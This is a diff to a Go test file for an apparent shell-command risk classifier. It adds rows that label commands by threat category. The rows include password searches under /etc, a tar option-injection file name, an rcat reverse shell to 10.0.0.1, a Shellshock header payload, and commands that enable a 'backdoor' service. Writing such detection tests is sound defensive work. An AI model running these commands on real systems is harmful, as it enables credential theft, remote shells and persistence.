@@ -112,6 +112,12 @@ func TestHost7Explain(t *testing.T) {
 	explainRow(t, `find /etc -type f -exec grep -i -I "PASS" {} /dev/null \;`, SecretRead, "systemSecretSearch", []string{"grep", "/etc"})
 	explainRow(t, `grep -rnv '/' -ie PASS`, SecretRead, "systemSecretSearch", []string{"grep", "/"})
 	explainRow(t, `touch /home/user/--checkpoint-action=exec=sh\ shell.sh`, PrivilegeEscalation, "optionNamedFile", []string{"touch", "--checkpoint-action=exec=sh shell.sh"})
+	explainRow(t, `rcat connect -s bash 10.0.0.1 4242`, NetworkExfiltration, "shellsServed7", []string{"rcat", "connect", "-s"})
+	explainRow(t, `xh http://10.0.0.5/cgi-bin/x "Referer:() { :;}; id"`, PrivilegeEscalation, "shellsServed7", []string{"xh", "Referer:() { :;}; id"})
+	explainRow(t, `sv restart nginx`, DiskSystem, "servicesStopped7", []string{"sv", "restart"})
+	explainRow(t, `launchctl kickstart -k system/com.openssh.sshd`, DiskSystem, "servicesStopped7", []string{"launchctl", "kickstart", "-k"})
+	explainRow(t, `ln -s /etc/sv/backdoor /var/service/`, PersistenceStartupFiles, "servicesEnabled7", []string{"ln", "/var/service/"})
+	explainRow(t, `dinitctl enable backdoor`, PersistenceStartupFiles, "servicesEnabled7", []string{"dinitctl", "enable"})
 }
 
 // TestTempIsNoGeneratedFolder: scratchNames are folders a tool writes and
